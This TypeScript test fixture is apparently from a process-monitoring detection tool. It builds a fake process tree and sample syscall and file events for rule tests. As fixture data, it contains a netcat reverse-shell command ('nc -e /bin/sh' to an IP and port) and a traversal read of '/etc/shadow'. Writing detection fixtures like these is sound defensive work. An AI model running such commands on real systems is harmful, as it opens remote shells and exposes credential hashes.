// Shared by the live-pipeline tests (rules-live*.test.ts): a fake process
// lookup standing for the cache, a small process tree, and Vigil events as
// the sensors would decode them.
import { LiveAdapter } from '../src/rules/live.js';
import type { SysEvent } from '../src/sensors/sysevent-events.js';
import type { FileEvent } from '../src/sensors/file-events.js';
import type { ProcessInfo, ProcessLookup } from '../src/process/types.js';

export const START = 1_000_000_000_000n;
export const EPOCH = 1_767_225_600_000_000_000n;
export const CID = 'ab'.repeat(32);

export function info(p: Partial<ProcessInfo> & { pid: number; comm: string }): ProcessInfo {
  return {
    execId: `id-${p.pid}`, tid: p.pid, ppid: 1, parentExecId: undefined, parentStartBootNs: undefined,
    uid: 0, gid: 0, euid: 0, egid: 0, auid: 4294967295, binary: `/usr/bin/${p.comm}`, args: [p.comm], cwd: '/root',
    tty: undefined, startBootNs: START, startTimeNs: EPOCH, execBootNs: START, caps: { effective: 0x1ffffffffffn, permitted: 0x1ffffffffffn, inheritable: 0n },
    ns: undefined, cgroupId: 1n, cgroupPath: '/', container: 'host', source: 'exec',
    flags: { binaryTruncated: false, argsTruncated: false, cwdTruncated: false, binaryError: false, argsError: false, cwdError: false },
    exit: undefined, replaced: false, ...p,
  };
}

export class FakeLookup implements ProcessLookup {
  readonly procs = new Map<number, ProcessInfo>();
  add(i: ProcessInfo): ProcessInfo {
    this.procs.set(i.pid, i);
    return i;
  }
  get(pid: number): ProcessInfo | undefined {
    return this.procs.get(pid);
  }
  getByExecId(): ProcessInfo | undefined {
    return undefined;
  }
  parentOf(i: ProcessInfo): ProcessInfo | undefined {
    return this.procs.get(i.ppid);
  }
  ancestors(i: ProcessInfo): ProcessInfo[] {
    const out: ProcessInfo[] = [];
    for (let p = this.parentOf(i); p && out.length < 64; p = this.parentOf(p)) out.push(p);
    return out;
  }
}

export function world(): { lookup: FakeLookup; adapter: LiveAdapter } {
  const lookup = new FakeLookup();
  lookup.add(info({ pid: 1, comm: 'systemd', binary: '/usr/lib/systemd/systemd', ppid: 0 }));
  lookup.add(info({ pid: 100, comm: 'containerd-shim', ppid: 1 }));
  lookup.add(info({ pid: 200, comm: 'bash', ppid: 100, tty: 'pts/3', container: { id: CID, runtime: 'docker' } }));
  lookup.add(info({ pid: 300, comm: 'nc', ppid: 200, args: ['nc', '-e', '/bin/sh', '10.1.2.3', '4444'], container: { id: CID, runtime: 'docker' } }));
  lookup.add(info({ pid: 400, comm: 'cat', ppid: 1, args: ['cat', '../../etc/shadow'] }));
  return { lookup, adapter: new LiveAdapter(lookup) };
}

export function sysEvent(p: Partial<SysEvent> & { call: SysEvent['call'] }, pid: number): SysEvent {
  return {
    kind: 'sys', timeNs: EPOCH + 5_000_000_000n, bootNs: START + 5_000_000_000n, args: [0, 0, 0, 0, 0, 0], ret: 0,
    file: undefined, addr: undefined, str: null, strTruncated: false, raw: false,
    task: { pid, tid: pid, uid: 0, gid: 0, euid: 0, egid: 0, comm: 'x', startBootNs: START, cgroupId: 1n, capEffective: 0x1ffffffffffn },
    ...p,
  };
}

export function fileEvent(p: Partial<FileEvent> & { syscall: FileEvent['syscall']; op: FileEvent['op']; path: string }, pid: number): FileEvent {
  return {
    kind: 'file', timeNs: EPOCH + 1n, bootNs: START + 1n, target: null, rawTarget: null, dev: null, ino: null,
    flags: ['O_RDONLY'], rawFlags: 0n, mode: null, ownerUid: null, ownerGid: null, length: null, ret: 3,
    task: { pid, tid: pid, uid: 0, gid: 0, comm: 'x', startBootNs: START, cgroupId: 1n },
    eventFlags: { pathTruncated: false, targetTruncated: false, pathError: false, targetError: false, pathOpened: false },
    rawPath: p.path,
    ...p,
  };
}
